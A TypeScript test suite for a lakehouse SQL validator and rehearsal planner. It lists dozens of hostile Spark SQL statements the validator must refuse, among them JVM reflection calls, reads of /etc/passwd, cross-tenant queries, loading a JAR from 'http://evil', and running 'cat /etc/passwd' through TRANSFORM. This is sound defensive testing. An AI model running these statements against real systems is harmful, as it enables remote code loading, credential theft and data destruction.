import assert from "node:assert/strict";
import { checkStatement } from "../../../src/lakehouse/check-statement.ts";
import { planRehearsal } from "../../../src/lakehouse/plan-rehearsal.ts";

/** Statements that reach a file, the JVM, a setting, another tenant or the definition of a table, if Spark gets to see them. */
const hostile: readonly string[] = [
  "SELECT java_method('java.lang.System', 'getProperty', 'user.home')",
  "SELECT JAVA_METHOD ('java.lang.Runtime', 'getRuntime')",
  "SELECT `java_method`('java.lang.System', 'exit', 1)",
  "SELECT reflect('java.lang.System', 'getenv', 'HOME')",
  "SELECT try_reflect('java.lang.System', 'getenv', 'HOME')",
  "SELECT /* x */ reflect /* y */ ('java.lang.System', 'getenv')",
  "SELECT 1 -- \\\n hidden\n, reflect('java.lang.System', 'getenv', 'HOME')",
  "SELECT 1 -- hidden\r, reflect('java.lang.System', 'getenv', 'HOME')",
  "SELECT 1 /* /* */ */, reflect('java.lang.System', 'getenv', 'HOME')",
  "SELECT transform(array(1), x -> java_method('java.lang.System', 'nanoTime'))",
  "SELECT a FROM t GROUP BY a, CUBE(reflect('java.lang.System', 'nanoTime'))",
  "SELECT sum(a) OVER (ORDER BY reflect('java.lang.System', 'nanoTime')) FROM t",
  "SELECT a FROM t LIMIT cast(java_method('java.lang.Math', 'abs', 1) AS int)",
  "SELECT * FROM t TABLESAMPLE (reflect('java.lang.System', 'nanoTime') ROWS)",
  "SELECT * FROM t PIVOT (max(reflect('java.lang.System', 'nanoTime')) FOR a IN (1))",
  "INSERT INTO t SELECT reflect('java.lang.System', 'getenv', 'HOME')",
  "UPDATE t SET a = reflect('java.lang.System', 'getenv', 'HOME')",
  "DELETE FROM t WHERE a = java_method('java.lang.System', 'getenv', 'HOME')",
  "MERGE INTO t USING s ON reflect('java.lang.System', 'nanoTime') = 1 WHEN MATCHED THEN DELETE",
  "SELECT input_file_name() FROM t",
  "SELECT my_udf(a) FROM t",
  "SELECT lake.system.bucket(1, a) FROM t",
  "SELECT lake.other.fn(a) FROM t",
  "SELECT '${env:HOME}'",
  "SELECT '${system:user.home}'",
  "SELECT * FROM ${spark.app.name}",
  "SELECT * FROM text.`/etc/hostname`",
  "SELECT * FROM csv.`/etc/passwd`",
  "SELECT * FROM parquet.`s3a://other/x`",
  "SELECT * FROM `/etc/passwd`",
  "SELECT * FROM `../other/t`",
  "SELECT * FROM `..`",
  "TABLE text.`/etc/hostname`",
  "INSERT INTO parquet.`/tmp/x` SELECT 1",
  "INSERT OVERWRITE DIRECTORY '/tmp/x' USING csv SELECT 1",
  "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT 1",
  "SELECT * FROM lake.tenant_b.person",
  "SELECT * FROM tenant_b.person",
  "SELECT * FROM t WHERE a IN (SELECT id FROM tenant_b.person)",
  "WITH x AS (SELECT * FROM tenant_b.person) SELECT * FROM x",
  "SELECT (SELECT max(id) FROM tenant_b.person)",
  "SELECT EXISTS (SELECT 1 FROM spark_catalog.default.person)",
  "SELECT * FROM t JOIN LATERAL (SELECT * FROM tenant_b.person) p",
  "MERGE INTO tenant_b.person USING t ON true WHEN MATCHED THEN DELETE",
  "DELETE FROM lake.tenant_b.person",
  "SELECT * FROM t.snapshots",
  "SELECT * FROM t.`branch_main`",
  "SELECT * FROM t VERSION AS OF 1",
  "SELECT * FROM t TIMESTAMP AS OF reflect('java.lang.System', 'nanoTime')",
  "SELECT * FROM (WITH inner_one AS (SELECT 1) SELECT * FROM inner_one) JOIN tenant_b.inner_one",
  "SELECT * FROM IDENTIFIER('tenant_b.person')",
  "SELECT * FROM read_files('/etc/passwd')",
  "SELECT * FROM sql_keywords()",
  "SELECT * FROM my_table_function(TABLE(t))",
  "SELECT :secret",
  "SET spark.sql.ansi.enabled = true",
  "SET",
  "RESET",
  "USE lake.tenant_b",
  "CREATE TABLE x (a INT)",
  "CREATE TEMPORARY VIEW v USING csv OPTIONS (path '/etc/passwd')",
  "CREATE FUNCTION f AS 'evil.Class' USING JAR 'http://evil/x.jar'",
  "DROP TABLE t",
  "ALTER TABLE t DROP BRANCH main",
  "TRUNCATE TABLE t",
  "ADD JAR 'http://evil/x.jar'",
  "LOAD DATA INPATH '/etc/passwd' INTO TABLE t",
  "CALL lake.system.rollback_to_snapshot('t', 1)",
  "CACHE TABLE t",
  "SHOW TABLES IN tenant_b",
  "DESCRIBE t",
  "EXPLAIN SELECT 1",
  "SELECT TRANSFORM(a) USING 'cat /etc/passwd' AS (b) FROM t",
  "SELECT 1; DROP TABLE t",
  "SELECT 1 UNION ALL TABLE lake.tenant_b.person",
  "FROM t INSERT INTO a SELECT 1 INSERT INTO lake.tenant_b.b SELECT 2",
];

suite("statements that a rehearsal would send to Spark", () => {
  test("are at least sixty hostile ones", () => {
    assert.ok(hostile.length >= 60, `${hostile.length}`);
  });

  for (const text of hostile) {
    test(`are refused: ${text.replace(/\s/g, " ")}`, () => {
      assert.throws(
        () => checkStatement(text),
        (error: Error) => error.name === "LakehouseError" && /^line \d+, column \d+: /.test(error.message),
      );
    });
  }

  test("are what jobs do, with their names and without their comments", () => {
    const { kind, reads, target, text } = checkStatement(
      "MERGE INTO Ledger /* it's */ AS t\nUSING (WITH x AS (SELECT * FROM news) SELECT *, trim(BOTH ' ' FROM a), extract(YEAR FROM d), CAST(b AS INT) FROM x) s ON t.id = s.id -- all\nWHEN MATCHED THEN UPDATE SET * WHEN NOT MATCHED THEN INSERT *;\n",
    );
    assert.equal(kind, "merge");
    assert.deepEqual(reads, ["news"]);
    assert.deepEqual([target?.path, target?.alias], [["Ledger"], "t"]);
    assert.equal(text.split("\n").length, 3);
    assert.doesNotMatch(text, /it's|all|;/);
  });

  test("read their target where they name it in a query, not where it qualifies a column", () => {
    const readsOf = (text: string) => checkStatement(text).reads;
    assert.deepEqual(readsOf("UPDATE `pay$1` SET amount = `pay$1`.amount + 1 WHERE `pay$1`.id = 1"), []);
    assert.deepEqual(readsOf("DELETE FROM Ledger WHERE id IN (SELECT id FROM ledger)"), ["ledger"]);
    assert.deepEqual(readsOf("INSERT INTO ledger WITH ledger AS (SELECT 1 AS id) SELECT * FROM ledger"), []);
  });

  test("are the generators, ranges, windows and lambdas of the language", () => {
    for (const text of [
      "SELECT explode(array(1, 2)), transform(array(1), x -> x + 1)",
      "SELECT * FROM t LATERAL VIEW explode(a) e AS b",
      "SELECT * FROM range(1, 10)",
      "SELECT row_number() OVER (PARTITION BY a ORDER BY b), (1, 2), position('a' IN b) FROM t",
      "SELECT * FROM VALUES (1, 'a'), (2, 'b') AS v (id, name)",
      "SELECT a, count(*) FROM t GROUP BY ROLLUP (a) HAVING grouping(a) = 0",
      "SELECT substring('abc' FROM 2 FOR 1), overlay('abc' PLACING 'x' FROM 1), timestampadd(DAY, 1, d), date_add(DAY, 1, d) FROM t",
    ]) {
      assert.ok(checkStatement(text), text);
    }
  });
});

suite("the plan of a rehearsal", () => {
  test("names what it cannot rehearse, with its action", () => {
    const cases: readonly (readonly [Parameters<typeof planRehearsal>[0], RegExp])[] = [
      [{ tenants: ["a", "b"], actions: [] }, /several tenants/],
      [{ preconditions: [{ table: "x" }], actions: [] }, /Preconditions are not rehearsed/],
      [
        { inputs: [{ id: "i", filename: "a.parquet", format: { parquet: {} } }] },
        /The input i is not rehearsed: it is Parquet/,
      ],
      [{ inputs: [{ id: "i", filename: "a.zip", fileContainerName: "c" }] }, /container/],
      [{ inputs: [{ id: "i", filename: "a.csv", tenantCodeColumn: "t" }] }, /distributed over tenants/],
      [
        { actions: [{ query: { query: "SELECT 1" } }, { query: { query: "SELECT\n  reflect('a', 'b')" } }] },
        /^Action 2 \(query\): line 2, column 3: reflect/,
      ],
      [
        { actions: [{ upsert: { source: "s", target: "tenant.b", keys: ["k"] } }] },
        /^Action 1 \(upsert\): .*not in reach/,
      ],
      [{ actions: [{ upsert: { source: "s", target: "t" } }] }, /keys is missing/],
      [{ actions: [{ reset: { table: "t" } }] }, /asOfTimestamp is missing/],
    ];
    for (const [job, message] of cases) {
      assert.throws(() => planRehearsal(job), { name: "LakehouseError", message });
    }
  });

  test("has the tables that are read and written, without inputs, and leaves out what follows the commit", () => {
    const { actions, read, written } = planRehearsal({
      inputs: [{ id: "news", filename: "a.csv" }],
      actions: [
        { upsert: { source: "news", target: "person", keys: ["id"] } },
        { query: { query: "INSERT INTO Ledger SELECT * FROM ledger JOIN other" } },
        { setMetadata: { table: "x" } },
        { commit: {} },
        { query: { query: "this is not even SQL" } },
      ],
    });
    assert.deepEqual(read, ["ledger", "other"]);
    assert.deepEqual(written, ["person", "Ledger"]);
    assert.deepEqual(
      actions.map(({ run }) => run),
      ["upsert", "write", "noted", "left", "left"],
    );
  });
});
